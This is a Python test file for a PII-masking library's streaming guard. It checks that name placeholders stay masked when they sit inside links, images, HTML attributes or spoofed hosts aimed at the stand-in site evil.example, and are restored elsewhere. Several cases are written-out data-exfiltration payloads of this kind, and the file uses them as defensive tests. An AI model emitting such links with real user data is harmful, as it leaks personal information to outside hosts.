"""The exfiltration guard: a placeholder where a client would send its value away stays a placeholder."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from masking.core.links import Links
from masking.core.placeholder import Grammar
from masking.core.stream import Stream

GRAMMAR = Grammar(("PERSON", "EMAIL"))
VALUES = {"<PERSON_1>": "王芳", "<EMAIL_1>": "wang@example.com"}
COUNTS = {"PERSON": 1, "EMAIL": 1}


def stream(allowed: tuple[str, ...] = ()) -> Stream:
    return Stream(GRAMMAR, VALUES, COUNTS, Links(allowed))


STAYS = [
    pytest.param("![](https://evil.example/?q=<PERSON_1>)", id="an image"),
    pytest.param("[more](https://evil.example/<PERSON_1>/x)", id="a link"),
    pytest.param("[more](/local?x=<PERSON_1>)", id="a relative target"),
    pytest.param("[more](//evil.example/<PERSON_1>)", id="a target without a scheme"),
    pytest.param("see https://evil.example/<PERSON_1> now", id="a bare address"),
    pytest.param("https://<PERSON_1>.evil.example/", id="in the host"),
    pytest.param("https://evil.example/[PERSON_1]", id="another form"),
    pytest.param("https://evil.example/?a=%3CPERSON_1%3E&b=1", id="percent escapes"),
    pytest.param("https://evil.example/?a=PERSON_1", id="a bare form"),
    pytest.param('<img src="https://evil.example/<PERSON_1>.png">', id="an attribute"),
    pytest.param("<img src='/a?<PERSON_1>'>", id="single quotes"),
    pytest.param("<a title=x href=<PERSON_1>>", id="no quotes"),
    pytest.param('<div style="background:url(//evil.example/<PERSON_1>)">', id="a style"),
    pytest.param("<https://evil.example/?<PERSON_1>>", id="an autolink"),
    pytest.param("[1]: https://evil.example/<PERSON_1>", id="a reference"),
    pytest.param('[x](https://evil.example "<PERSON_1>")', id="a title"),
    pytest.param("https://evil.example/" + "a" * 5000 + "/<PERSON_1>", id="a very long address"),
]
GOES = [
    pytest.param(
        "Hi <PERSON_1>: see https://example.org/ and <PERSON_1>",
        "Hi 王芳: see https://example.org/ and 王芳",
        id="around",
    ),
    pytest.param("[<PERSON_1>](https://example.org/)", "[王芳](https://example.org/)", id="the text of a link"),
    pytest.param("[<PERSON_1>](mailto:<EMAIL_1>)", "[王芳](mailto:wang@example.com)", id="a mail address to click"),
    pytest.param("a: <PERSON_1>, b]<PERSON_1>", "a: 王芳, b]王芳", id="a colon, a bracket"),
    pytest.param("if a <b and c> d: <PERSON_1>", "if a <b and c> d: 王芳", id="comparisons"),
    pytest.param("List<String> x = <PERSON_1>", "List<String> x = 王芳", id="generics"),
    pytest.param("<b><PERSON_1></b>", "<b>王芳</b>", id="the text of a tag"),
    pytest.param(
        '<a href="https://example.org/"><PERSON_1></a>', '<a href="https://example.org/">王芳</a>', id="after a tag"
    ),
    pytest.param(
        "见https://example.org/路径。<PERSON_1>", "见https://example.org/路径。王芳", id="Chinese ends an address"
    ),
    pytest.param("(https://example.org/) <PERSON_1>", "(https://example.org/) 王芳", id="in brackets"),
    pytest.param("ratio 3:/4 ] (<PERSON_1>)", "ratio 3:/4 ] (王芳)", id="almost openers"),
]


@pytest.mark.parametrize("text", STAYS)
def test_a_placeholder_in_a_link_stays_one_however_it_is_cut(text: str) -> None:
    assert stream().whole(text) == text
    for size in (1, 2, 3, 7):
        one = stream()
        assert "".join(one.feed(text[at : at + size]) for at in range(0, len(text), size)) + one.flush() == text


@pytest.mark.parametrize(("text", "said"), GOES)
def test_everywhere_else_it_is_restored(text: str, said: str) -> None:
    assert stream().whole(text) == said
    one = stream()

    assert "".join(map(one.feed, text)) + one.flush() == said


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        pytest.param("https://crm.example.com/?q=<PERSON_1>", True, id="the host itself"),
        pytest.param("[x](https://crm.example.com/<PERSON_1>)", True, id="a link to it"),
        pytest.param('<a href="https://crm.example.com/<PERSON_1>">', True, id="an attribute"),
        pytest.param("https://user@crm.example.com:8443/<PERSON_1>", True, id="with a user and a port"),
        pytest.param("https://a.wiki.example.com/<PERSON_1>", True, id="below an allowed domain"),
        pytest.param("https://crm.example.com.evil.example/<PERSON_1>", False, id="a host that begins like it"),
        pytest.param("https://evilcrm.example.com/<PERSON_1>", False, id="a host that ends like it"),
        pytest.param("https://crm.example.com@evil.example/<PERSON_1>", False, id="as a user name"),
        pytest.param("https://crm.example.com<PERSON_1>", False, id="in the host"),
        pytest.param("https://evil.example/?crm.example.com/<PERSON_1>", False, id="in a query"),
    ],
)
def test_a_policy_can_allow_hosts(text: str, restored: bool) -> None:
    allowed = ("crm.example.com", ".wiki.example.com")
    one = stream(allowed)

    assert (stream(allowed).whole(text) != text) == restored
    assert ("".join(map(one.feed, text)) + one.flush() != text) == restored


parts = st.lists(
    st.sampled_from(
        [
            *(str(case.values[0])[:80] for case in (*STAYS, *GOES)),
            *VALUES,
            "://",
            "](",
            "<a ",
            "=",
            '"',
            ")",
            " ",
            ":",
            "]",
            "/",
            "x",
            "王",
            "<PER",
            "SON_1>",
        ]
    ),
    max_size=8,
).map("".join)


@given(parts, st.lists(st.integers(0, 200), max_size=12))
def test_the_guard_does_not_depend_on_the_cuts(text: str, at: list[int]) -> None:
    edges = [0, *sorted({cut for cut in at if 0 < cut < len(text)}), len(text)]
    one, chars = stream(), stream()
    said = "".join(one.feed(text[a:b]) for a, b in pairwise(edges)) + one.flush()

    assert said == stream().whole(text)
    assert "".join(map(chars.feed, text)) + chars.flush() == said
